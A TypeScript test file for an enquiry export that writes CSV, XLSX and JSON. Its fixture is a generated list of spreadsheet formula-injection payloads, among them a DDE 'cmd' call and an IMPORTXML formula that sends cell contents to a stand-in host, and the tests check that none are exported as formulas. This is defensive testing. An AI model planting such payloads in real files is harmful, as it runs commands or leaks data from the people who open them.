import assert from 'node:assert/strict'
import { hash } from 'node:crypto'
import { buffer, text } from 'node:stream/consumers'
import { describe, it } from 'node:test'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { strFromU8, unzipSync } from 'fflate'
import { SaxesParser } from 'saxes'
import { anyCharacter } from '../../tools/testing/any-character.ts'
import { keptEnquiry } from '../store/enquiry-for-tests.ts'
import { plainText, unguarded } from './cell.ts'
import { exportFormats } from './export-formats.ts'
import type { ExportedEnquiry } from './with-standings.ts'
import { buildWorkbook } from './xlsx.ts'

describe('CSV', () => {
  it('begins with a byte order mark and ends each row with CRLF', async () => {
    const csv = await text(exportFormats.csv(each([enquiry('Hello')])))

    assert.ok(csv.startsWith('\uFEFF"id","receivedAt",'))
    assert.equal(csv.split('\r\n').length, 3)
    assert.ok(csv.endsWith('\r\n'))
  })

  it('returns a thousand hostile cells, none of them a formula', async () => {
    const csv = await text(exportFormats.csv(each(hostile.map(enquiry))))

    const rows: string[][] = parse(csv, { bom: true })
    assert.deepEqual(messagesIn(rows).map(unguarded), hostile.map(plainText))
    for (const cell of rows.flat()) assert.ok(!isFormula(cell), JSON.stringify(cell))
  })
})

describe('XLSX', () => {
  it('returns a thousand hostile cells as text, none of them a formula', async () => {
    const bytes = await buffer(exportFormats.xlsx(each(hostile.map(enquiry))))

    const rows = readSheet(partsOf(bytes), 1)
    assert.deepEqual(messagesIn(rows), hostile.map(plainText))
  })

  it('is one package of existing parts, the list of types first', async () => {
    const parts = partsOf(await buffer(exportFormats.xlsx(each([enquiry('Hello')]))))

    const names = Object.keys(parts)
    assert.equal(names[0], '[Content_Types].xml')
    for (const part of Object.values(parts)) assert.doesNotThrow(() => readXml(part))
    const targets = readXml(parts['xl/_rels/workbook.xml.rels'] ?? '')
      .filter(({ name }) => name === 'Relationship')
      .map(({ attributes }) => `xl/${attributes.Target}`)
    for (const target of targets) assert.ok(names.includes(target), target)
  })

  it('has typed times, and columns as wide as their content', async () => {
    const time = new Date('2026-01-31T12:00:00Z')
    const rows = [['short', time, `${'long '.repeat(99)}\nlines`]]

    const parts = partsOf(await buffer(buildWorkbook(['a', 'at', 'b'], each(rows))))

    const sheet = readXml(parts['xl/worksheets/sheet1.xml'] ?? '')
    const widths = sheet.filter(({ name }) => name === 'col').map((one) => one.attributes.width)
    assert.deepEqual(widths, ['7', '25', '60'])
    assert.deepEqual(
      sheet.filter(({ name }) => name === 'v').map(({ text }) => text),
      ['46053.5'],
    )
  })

  it('continues in another worksheet when one is full', async () => {
    const rows = Array.from({ length: 7 }, (_, index) => [`row ${index}`])

    const parts = partsOf(await buffer(buildWorkbook(['head'], each(rows), 4)))

    const sheets = readXml(parts['xl/workbook.xml'] ?? '').filter(({ name }) => name === 'sheet')
    assert.equal(sheets.length, 3)
    assert.deepEqual(readSheet(parts, 1), [['head'], ['row 0'], ['row 1'], ['row 2']])
    assert.deepEqual(readSheet(parts, 3), [['head'], ['row 6']])
  })

  it('starts no other worksheet when the last row just fits', async () => {
    const parts = partsOf(await buffer(buildWorkbook(['head'], each([['a'], ['b']]), 3)))

    assert.equal(parts['xl/worksheets/sheet2.xml'], undefined)
    assert.equal(readSheet(parts, 1).length, 3)
  })

  it('has no cell that is longer than Excel allows', async () => {
    const long = `${'a'.repeat(32_765)}🗺️ and more`

    const parts = partsOf(await buffer(buildWorkbook(['head'], each([[long]]))))

    const cell = readSheet(parts, 1)[1]?.[0]
    assert.equal(cell, `${'a'.repeat(32_765)}…`)
  })

  it('fails when its source does', async () => {
    async function* broken() {
      yield enquiry('Hello')
      throw new Error('the database is gone')
    }

    await assert.rejects(buffer(exportFormats.xlsx(broken())), /the database is gone/)
  })
})

describe('JSON', () => {
  it('is one array with every character', async () => {
    const enquiries = hostile.map(enquiry)

    const json = await text(exportFormats.json(each(enquiries)))

    assert.deepEqual(JSON.parse(json), JSON.parse(JSON.stringify(enquiries)))
    assert.deepEqual(JSON.parse(await text(exportFormats.json(each([])))), [])
  })

  it('is one object per line when the lines count', async () => {
    const lines = (await text(exportFormats.ndjson(each(hostile.map(enquiry))))).split('\n')

    assert.equal(lines.length, hostile.length + 1)
    assert.equal(JSON.parse(lines[0] ?? '').message, hostile[0])
  })
})

describe('an export of any size', () => {
  for (const [format, write] of Object.entries(exportFormats)) {
    it(`is written as ${format} while it is read, and waits for its reader`, async () => {
      let read = 0
      async function* many() {
        for (; read < 100_000; read += 1) yield enquiry(hash('sha512', String(read), 'hex'))
      }

      let bytes = 0
      for await (const chunk of write(many())) {
        bytes += chunk.length
        if (bytes > 256 * 1024) break
      }

      assert.ok(read < 20_000, `${read} enquiries were read for ${bytes} bytes`)
    })
  }
})

/** A thousand texts that could be misinterpreted, always the same ones. */
const hostile = hostileCells()

function hostileCells(): string[] {
  const payloads = [
    ...['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=HYPERLINK("http://x.example","a")'],
    ...["=cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")', '=2+5+cmd|1'],
    ...['＝1+1', '＋1', '－1', '＠SUM(1)', '%0A=1', '+91 98765 43210', '<a href="x">&amp;</a>'],
    ...[']]>', '_x003D_1+1', '\u202E=1', '"', '""', "'", ',', '\uFFFF', '\uD800', '\0=1', 'ক 🗺️'],
  ]
  const before = [
    ...['', ' ', '\t', '\r', '\n', '\r\n', '"', "'", '";', ',', ';', 'a;', 'a\n', '\uFEFF'],
  ]
  const random = fc.sample(
    fc.tuple(
      fc.constantFrom(...before),
      fc.constantFrom(...payloads),
      fc.string({ unit: anyCharacter, maxLength: 8 }),
      fc.constantFrom(...before),
      fc.constantFrom(...payloads),
    ),
    { numRuns: 1000 - payloads.length, seed: 144 },
  )
  return [...payloads, ...random.map((pieces) => pieces.join(''))]
}

/** By OWASP's definition, extended by what programs may skip before the sign. */
function messagesIn([header = [], ...rows]: string[][]): string[] {
  return rows.map((row) => row[header.indexOf('message')] ?? '')
}

function isFormula(cell: string): boolean {
  return /^[\t\r\n=+\-@＝＋－＠]/.test(cell) || /^[\s"\uFEFF]+[=+\-@＝＋－＠]/.test(cell)
}

function enquiry(message: string): ExportedEnquiry {
  return {
    ...keptEnquiry,
    isRead: true,
    handledAt: null,
    wishes: [],
    note: '',
    status: 'quarantined',
    quarantineReason: 'honeypot',
    name: '=Ada',
    email: '=ada@example.org',
    phoneNumber: '+91 98765 43210',
    message,
  }
}

async function* each<T>(items: readonly T[]): AsyncGenerator<T> {
  yield* items
}

function partsOf(bytes: Uint8Array): Record<string, string> {
  const parts = Object.entries(unzipSync(bytes))
  return Object.fromEntries(parts.map(([name, part]) => [name, strFromU8(part)]))
}

interface Element {
  name: string
  attributes: Record<string, string>
  text: string
}

/** Strict: a character or markup that XML does not allow throws. */
function readXml(xml: string): Element[] {
  const parser = new SaxesParser()
  const elements: Element[] = []
  parser.on('opentag', ({ name, attributes }) => elements.push({ name, attributes, text: '' }))
  parser.on('text', (part) => {
    const last = elements.at(-1)
    if (last !== undefined) last.text += part
  })
  parser.write(xml).close()
  return elements
}

/** Every cell must be marked as text, or be a time. */
function readSheet(parts: Record<string, string>, number: number): string[][] {
  const rows: string[][] = []
  const sheet = readXml(parts[`xl/worksheets/sheet${number}.xml`] ?? '')
  for (const { name, attributes, text } of sheet) {
    assert.notEqual(name, 'f', 'there is a formula')
    if (name === 'row') rows.push([])
    if (name === 'c') assert.ok(attributes.t === 'inlineStr' || attributes.s === '3')
    if (name === 'v') rows.at(-1)?.push(String(Number(text)))
    if (name === 't') rows.at(-1)?.push(text.replaceAll('_x005F_', '_'))
  }
  return rows
}
